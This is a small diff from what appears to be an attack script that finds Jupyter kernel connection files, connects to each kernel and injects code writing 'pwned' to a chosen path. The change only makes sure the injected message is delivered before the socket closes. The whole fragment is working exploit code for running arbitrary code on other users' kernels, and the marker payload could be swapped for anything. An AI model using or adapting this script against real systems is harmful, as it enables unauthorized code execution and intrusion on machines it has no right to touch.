@@ -536,7 +536,7 @@ for path in found:
         client.load_connection_file(path)
         client.start_channels()
         client.execute(f"open({sys.argv[2]!r}, 'w').write('pwned')")
-        client.stop_channels()
+        client.shell_channel.socket.close(linger=5000)  # returns once the message is sent
         print("queued on", path)
     except OSError as e:
         print("cannot read", path, e)
